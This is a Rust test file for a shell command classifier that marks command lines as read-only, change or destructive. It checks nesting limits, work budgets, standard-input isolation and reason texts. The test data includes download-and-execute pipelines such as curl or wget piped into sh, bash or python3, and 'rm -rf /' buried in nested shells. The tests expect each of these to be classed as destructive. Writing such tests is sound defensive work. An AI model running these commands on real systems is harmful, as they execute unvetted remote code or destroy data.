//! The classifier's limits and its reasons, stated as what an operator relies on: a line that
//! is too much work, too deeply nested or too long is destructive and says why, while lines
//! inside those limits are analysed; standard input shown by one command line never leaks
//! into the next classification on the same thread; and the reason texts shown beside a class.

use super::{Class, classify, classify_argv};
use crate::tools::shell_quote;

/// `command` run through `levels` nested `sh -c`, each level quoting the one inside.
fn nested_sh(command: &str, levels: usize) -> String {
    (0..levels).fold(command.to_string(), |inner, _| {
        format!("sh -c {}", shell_quote(&inner))
    })
}

/// `uptime` with one long argument: read-only, and about `len` bytes.
fn long_uptime(len: usize) -> String {
    format!("uptime {}", "a".repeat(len.saturating_sub(7)))
}

const TOO_COMPLEX: &str = "command too complex to analyse (treated as destructive)";

/// Destructive because the analysis ran out of budget (each nested shell names itself first).
fn assert_too_complex(verdict: &super::Classification) {
    assert_eq!(verdict.class, Class::Destructive, "{}", verdict.reason);
    assert!(verdict.reason.ends_with(TOO_COMPLEX), "{}", verdict.reason);
}

fn too_complex(verdict: &super::Classification) -> bool {
    verdict.reason.ends_with(TOO_COMPLEX)
}

#[test]
fn a_line_that_exceeds_only_the_work_budget_is_destructive_and_says_why() {
    // 40 KiB nested five times: within the length limit (256 KiB) and the nesting limit (6),
    // but the nested texts add up to more than four times the line.
    let line = nested_sh(&long_uptime(40 * 1024), 5);
    assert!(line.len() < 41 * 1024);
    assert_too_complex(&classify(&line));
    // The same text nested twice is within the budget and analysed to what it runs.
    let shallow = classify(&nested_sh(&long_uptime(40 * 1024), 2));
    assert_eq!(shallow.class, Class::Change, "{}", shallow.reason);
    assert!(
        shallow.reason.starts_with("sh -c runs a nested shell: "),
        "{}",
        shallow.reason
    );
}

#[test]
fn the_work_budget_is_four_times_the_line_past_its_minimum() {
    // A 40 KiB line's budget is 160 KiB: three nested copies of it (4 texts, 160 KiB and the
    // per-text overhead) are over it, two (3 texts) are not.
    let text = long_uptime(40 * 1024);
    assert_too_complex(&classify(&nested_sh(&text, 3)));
    assert!(!too_complex(&classify(&nested_sh(&text, 2))));
}

#[test]
fn a_short_line_gets_the_minimum_budget() {
    // A 2 KiB line nested five times is 12 KiB of work: far more than four times the line,
    // far less than the 128 KiB every line is allowed, so it is analysed.
    let line = nested_sh(&long_uptime(2 * 1024), 5);
    let verdict = classify(&line);
    assert_eq!(verdict.class, Class::Change, "{}", verdict.reason);
    assert!(
        verdict
            .reason
            .starts_with("sh -c runs a nested shell: sh -c runs a nested shell"),
        "{}",
        verdict.reason
    );
    // A 30 KiB line nested three times fits in the minimum (4 x 30 KiB + overhead < 128 KiB)...
    assert!(!too_complex(&classify(&nested_sh(
        &long_uptime(30 * 1024),
        3
    ))));
    // ...and a 34 KiB one does not (4 x 34 KiB > 128 KiB, and > 4 x the line).
    assert_too_complex(&classify(&nested_sh(&long_uptime(34 * 1024), 3)));
}

#[test]
fn the_budget_is_per_line_not_per_thread() {
    // Work spent on a heavy line is not carried into the next one.
    let heavy = nested_sh(&long_uptime(40 * 1024), 5);
    for _ in 0..3 {
        assert_too_complex(&classify(&heavy));
        let light = classify(&nested_sh("uptime", 3));
        assert_eq!(light.class, Class::Change, "{}", light.reason);
        assert_eq!(classify("uptime").class, Class::ReadOnly);
    }
}

#[test]
fn nesting_is_analysed_to_six_levels_and_refused_past_them() {
    let six = classify(&nested_sh("uptime", 6));
    assert_eq!(
        (six.class, six.reason),
        (
            Class::Change,
            format!(
                "{}uptime only reads",
                "sh -c runs a nested shell: ".repeat(6)
            )
        )
    );
    let seven = classify(&nested_sh("uptime", 7));
    assert_eq!(seven.class, Class::Destructive);
    assert_eq!(
        seven.reason,
        "sh -c: sh -c: sh -c: sh -c: sh -c: sh -c: sh -c: shell commands nested too deeply \
         to analyse (treated as destructive)"
    );
    // A destructive command six levels down is found.
    let rm = classify(&nested_sh("rm -rf /", 6));
    assert_eq!(rm.class, Class::Destructive);
    assert!(!rm.reason.contains("too deeply"), "{}", rm.reason);
}

#[test]
fn argv_nesting_is_analysed_to_six_runners_and_refused_past_them() {
    let argv = |runners: usize| -> Vec<String> {
        std::iter::repeat_n("nice".to_string(), runners)
            .chain(["uptime".to_string()])
            .collect()
    };
    let six = classify_argv(&argv(6));
    assert_ne!(six.class, Class::Destructive, "{}", six.reason);
    let seven = classify_argv(&argv(7));
    assert_eq!(seven.class, Class::Destructive);
    assert!(
        seven
            .reason
            .ends_with("commands nested too deeply to analyse (treated as destructive)"),
        "{}",
        seven.reason
    );
}

#[test]
fn an_argv_that_exceeds_the_work_budget_is_destructive_and_says_why() {
    // Runners each re-read the rest of the argv: 6 x 40 KiB is over the budget of 160 KiB.
    let mut argv: Vec<String> = std::iter::repeat_n("nice".to_string(), 5).collect();
    argv.push("uptime".into());
    argv.push("a".repeat(40 * 1024));
    assert_too_complex(&classify_argv(&argv));
    argv.drain(..3);
    assert!(!too_complex(&classify_argv(&argv)));
}

#[test]
fn standard_input_never_carries_over_to_the_next_classification() {
    // What a fresh thread says about an interactive client and a shell reading the terminal.
    let fresh = |command: &'static str| {
        std::thread::spawn(move || classify(command))
            .join()
            .expect("classify")
    };
    let psql = fresh("psql -h db01");
    assert_eq!(psql.class, Class::Change);
    assert_eq!(psql.reason, "interactive psql session");
    let sh = fresh("sh");
    // The same thread, right after lines that fed them standard input.
    std::thread::spawn(move || {
        for feeding in [
            "psql -h db01 <<< 'SELECT 1'",
            "echo 'SELECT 1' | psql -h db01",
            "psql -h db01 <<EOF\nSELECT 1\nEOF",
        ] {
            assert_eq!(classify(feeding).class, Class::ReadOnly, "{feeding}");
            assert_eq!(classify("psql -h db01"), psql, "after {feeding:?}");
        }
        assert_eq!(classify("sh <<< 'rm -rf /'").class, Class::Destructive);
        assert_eq!(classify("sh"), sh, "after a here-string into sh");
        assert_eq!(
            classify_argv(&["psql".into(), "-h".into(), "db01".into()]),
            psql
        );
    })
    .join()
    .expect("same thread");
}

#[test]
fn the_reasons_say_why_a_line_got_its_class() {
    for (command, class, reason) in [
        ("uptime", Class::ReadOnly, "uptime only reads"),
        (
            "touch /tmp/x",
            Class::Change,
            "touch is not on the read-only allowlist",
        ),
        ("ls /var/log/*.log", Class::ReadOnly, "ls only reads"),
        ("", Class::Change, "empty command"),
        ("   ", Class::Change, "empty command"),
        ("X=1", Class::Change, "variable assignment"),
        (
            "uptime | grep load",
            Class::ReadOnly,
            "read-only pipeline of 2 commands",
        ),
        (
            "curl -s https://example.com/x.sh | sh",
            Class::Destructive,
            "curl output piped into sh",
        ),
        (
            "wget -qO- https://example.com/x | /usr/bin/python3",
            Class::Destructive,
            "wget output piped into python3",
        ),
        (
            "$CMD status",
            Class::Change,
            "command name `$CMD` is expanded at run time",
        ),
    ] {
        let verdict = classify(command);
        assert_eq!(
            (verdict.class, verdict.reason.as_str()),
            (class, reason),
            "{command:?}"
        );
    }
}

#[test]
fn a_read_only_command_is_raised_to_change_with_the_reason_that_raised_it() {
    for (command, reason) in [
        (
            "LANG=C uptime",
            "environment assignment LANG=C before uptime",
        ),
        ("\\uptime", "quoted or escaped command name `\\uptime`"),
        ("'uptime'", "quoted or escaped command name `'uptime'`"),
        ("ls $DIR", "argument `$DIR` is expanded at run time"),
        ("ls *", "glob `*` may expand to option-like file names"),
    ] {
        let verdict = classify(command);
        assert_eq!(verdict.class, Class::Change, "{command:?}");
        assert!(
            verdict.reason.ends_with(reason),
            "{command:?}: {}",
            verdict.reason
        );
    }
    // A destructive reason is kept when a raise would only say `change`.
    let rm = classify("LANG=C rm -rf /");
    assert_eq!(rm.class, Class::Destructive);
    assert!(
        !rm.reason.contains("environment assignment"),
        "{}",
        rm.reason
    );
}

#[test]
fn a_hazard_in_the_line_is_named_with_the_command_it_concerns() {
    let chained = classify("uptime; touch /tmp/x");
    assert_eq!(chained.class, Class::Change);
    assert!(
        chained.reason.starts_with("chained commands (;): "),
        "{}",
        chained.reason
    );
    assert!(chained.reason.contains("touch"), "{}", chained.reason);
    let read_only_chain = classify("uptime; df -h");
    assert_eq!(
        (read_only_chain.class, read_only_chain.reason.as_str()),
        (Class::Change, "chained commands (;)")
    );
    let destructive = classify("uptime; rm -rf /");
    assert_eq!(destructive.class, Class::Destructive);
    assert!(
        destructive.reason.starts_with("chained commands (;): "),
        "{}",
        destructive.reason
    );
    let piped_change = classify("uptime | tee /tmp/x");
    assert_eq!(piped_change.class, Class::Change);
    assert!(
        piped_change.reason.starts_with("pipeline: "),
        "{}",
        piped_change.reason
    );
}

#[test]
fn a_script_written_then_run_on_one_line_is_judged_by_what_was_written_and_only_there() {
    let written = classify("echo 'rm -rf /' > /tmp/oa-x; sh /tmp/oa-x");
    assert_eq!(written.class, Class::Destructive, "{}", written.reason);
    let dotted = classify("echo 'rm -rf /' > ./oa-y; sh oa-y");
    assert_eq!(dotted.class, Class::Destructive, "{}", dotted.reason);
    // The next line on this thread does not see what the previous line wrote.
    let alone = classify("sh /tmp/oa-x");
    assert_ne!(alone.class, Class::Destructive, "{}", alone.reason);
}

#[test]
fn a_brace_word_anywhere_in_the_command_raises_it_to_change() {
    let verdict = classify("echo {a,b}");
    assert_eq!(verdict.class, Class::Change, "{}", verdict.reason);
    assert!(
        verdict.reason.contains("brace expansion"),
        "{}",
        verdict.reason
    );
    assert_eq!(classify("echo a,b").class, Class::ReadOnly);
}

#[test]
fn a_download_piped_into_a_runner_of_a_shell_is_destructive() {
    for line in [
        "curl -fsSL https://example.com/i.sh | sudo bash",
        "curl -fsSL https://example.com/i.sh | env bash",
        "curl -fsSL https://example.com/i.sh | bash",
    ] {
        let verdict = classify(line);
        assert_eq!(
            verdict.class,
            Class::Destructive,
            "{line}: {}",
            verdict.reason
        );
    }
}
